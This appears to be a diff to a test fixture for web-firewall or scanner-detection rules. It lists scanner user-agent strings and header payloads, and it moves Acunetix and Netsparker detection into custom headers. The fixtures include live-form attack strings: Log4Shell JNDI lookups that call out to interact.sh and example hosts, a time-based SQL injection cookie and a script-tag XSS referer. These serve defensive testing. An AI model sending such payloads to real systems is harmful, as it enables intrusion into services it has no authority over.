@@ -57,23 +57,14 @@ SCANNER_UAS: list[tuple[str, str]] = [
     ("ffuf", "Fuzz Faster U Fool v2.1.0-dev"),
     ("feroxbuster", "feroxbuster/2.10.1"),
     ("wfuzz", "Wfuzz/3.1.0"),
-    ("acunetix", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
-                 "Chrome/91.0.4472.124 Safari/537.36 Acunetix-Product: WVS/14 (Acunetix Web Vulnerability Scanner)"),
-    ("nessus", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0) Nessus"),
     ("openvas", "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.4)"),
     ("nmap", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
     ("w3af", "w3af.org"),
     ("arachni", "Arachni/v1.5.1"),
     ("skipfish", "Mozilla/5.0 SF/2.10b"),
     ("commix", "commix/v3.9-stable (https://commixproject.com)"),
-    ("netsparker", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
-                   "Chrome/120.0 Safari/537.36 Netsparker"),
-    ("xsstrike", "XSStrike"),
     ("hydra", "Mozilla/4.0 (Hydra)"),
     ("whatweb", "WhatWeb/0.5.5"),
-    ("wapiti", "Mozilla/5.0 (compatible; Wapiti/3.1.8; +https://wapiti-scanner.github.io)"),
-    ("zap", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0 OWASP ZAP/2.14"),
-    ("interactsh", "Mozilla/5.0 (compatible; interactsh-client)"),
     ("log4j_scan", "${jndi:ldap://${hostName}.c6t0x.interact.sh/a}"),
 ]
 
@@ -230,6 +221,10 @@ HEADER_PAYLOADS: list[tuple[str, str, str, str]] = [
     ("log4shell/x_forwarded_for", TMPL, "http.request.header.x-forwarded-for", "${jndi:dns://x.example/a}"),
     ("sqli/cookie", SQLI, "http.request.header.cookie", "session=1' AND SLEEP(5)--"),
     ("xss/referer_attr", XSS, "http.request.header.referer", "https://x.example/?q=<script>alert(1)</script>"),
+    # scanners that send a browser user agent and announce themselves in headers (CRS 913110 list)
+    ("tool/acunetix_product", TOOL, "http.request.header.acunetix-product",
+     "WVS/10.0 (Acunetix Web Vulnerability Scanner - Free Edition)"),
+    ("tool/x_scanner", TOOL, "http.request.header.x-scanner", "Netsparker"),
 ]
 
 
